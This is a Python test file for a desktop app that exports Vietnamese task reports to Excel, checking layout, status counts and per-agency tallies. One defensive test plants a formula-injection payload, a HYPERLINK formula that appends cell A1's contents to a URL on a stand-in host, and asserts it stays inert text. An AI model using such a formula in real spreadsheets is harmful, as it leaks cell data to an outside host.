"""The Excel report read back with openpyxl: the table an officer pastes into the province's forms."""

from __future__ import annotations

from openpyxl import load_workbook

from kstthc_desktop.text import nfc
from kstthc_desktop.reports.data import OUTSIDE_TOTAL, OUTSIDE_TOTAL_NOTE
from kstthc_desktop.reports.excel import COLUMNS, OVERDUE_FILL, write_xlsx
from report_samples import sample_data


def check_report_xlsx(path, data) -> None:
    """Checks every workbook must pass (also used by the store-based tests)."""
    wb = load_workbook(path)
    assert wb.sheetnames == ["Nhiệm vụ", "Tổng hợp"]
    ws = wb["Nhiệm vụ"]
    assert data.period_title in ws["A1"].value
    header = [c.value for c in ws[3]]
    assert header == [c.heading for c in COLUMNS]
    assert all(c.font.bold for c in ws[3])
    assert ws.freeze_panes == "A4"
    for col in "ABCDEFGHI":
        assert ws.column_dimensions[col].width >= 7
    assert ws.column_dimensions["B"].width >= 40

    rows = [[c for c in row] for row in ws.iter_rows(min_row=4)]
    sections, task_rows = [], []
    for row in rows:  # a section row: number and title only, bold, the title merged across
        if row[1].value and not row[6].value and row[0].font.bold:
            sections.append(row[1].value)
        else:
            task_rows.append(row)
    assert sections == [nfc(s.title) for s in data.sections]
    tasks = data.all_tasks()
    assert len(task_rows) == len(tasks)
    for task, row in zip(tasks, task_rows, strict=True):  # same order as the report (sub-items share STT and content)
        assert row[0].value == (nfc(task.stt) or None)
        assert row[1].value == (nfc(task.content) or None)
        assert row[2].value == (nfc(task.lead) or None)
        assert row[6].value == task.status_label
        assert row[1].alignment.wrap_text
        for p in task.progress:
            assert p.text in (row[7].value or "")
        for e in task.evidence:
            assert e.citation in (row[8].value or "")
        assert (row[1].fill.fgColor.rgb == OVERDUE_FILL) == task.overdue

    counts = wb["Tổng hợp"]
    values = {r[0]: r[1] for r in counts.iter_rows(min_row=5, max_col=2, values_only=True) if r[0]}
    for name, n in data.counts_by_status().items():
        label = data.label(name) + (f" ({OUTSIDE_TOTAL_NOTE})" if name in OUTSIDE_TOTAL else "")
        assert values[label] == n
    assert values["Tổng số"] == len([t for t in tasks if t.status not in OUTSIDE_TOTAL])  # withdrawn ones are not


def test_workbook_reads_back(tmp_path):
    data = sample_data(extra_tasks=3)
    path = write_xlsx(data, tmp_path / "bao-cao.xlsx")
    check_report_xlsx(path, data)


def test_counts_by_section_and_lead_add_up(tmp_path):
    data = sample_data()
    wb = load_workbook(write_xlsx(data, tmp_path / "r.xlsx"))
    rows = list(wb["Tổng hợp"].iter_rows(values_only=True))
    start = next(i for i, r in enumerate(rows) if r[0] == "Theo cơ quan chủ trì")
    heads = rows[start]
    lead_rows = {r[0]: r for r in rows[start + 1:] if r[0]}
    assert lead_rows["Phòng Quản lý chuyên ngành"][heads.index("Chưa hoàn thành – quá hạn")] == 1
    assert lead_rows["Chưa xác định"][-1] == 1  # task 8 has no lead
    assert sum(r[-1] for r in lead_rows.values()) == len(data.all_tasks())


def test_a_task_text_starting_with_equals_stays_text_never_a_formula(tmp_path):
    """Formula injection: a text from someone else's plan file must not become a live formula in the report."""
    data = sample_data()
    task = data.all_tasks()[0]
    task.content = '=HYPERLINK("http://example.invalid/?x="&A1,"Bấm vào đây")'
    task.lead = "=1+1"
    wb = load_workbook(write_xlsx(data, tmp_path / "r.xlsx"))
    cells = [c for row in wb["Nhiệm vụ"].iter_rows(min_row=4) for c in row if isinstance(c.value, str)]
    injected = [c for c in cells if c.value in (task.content, task.lead)]
    assert len(injected) == 2
    assert all(c.data_type == "s" for c in injected)  # a string cell: Excel shows the text as typed
    assert not [c for ws in wb.worksheets for row in ws.iter_rows() for c in row if c.data_type == "f"]
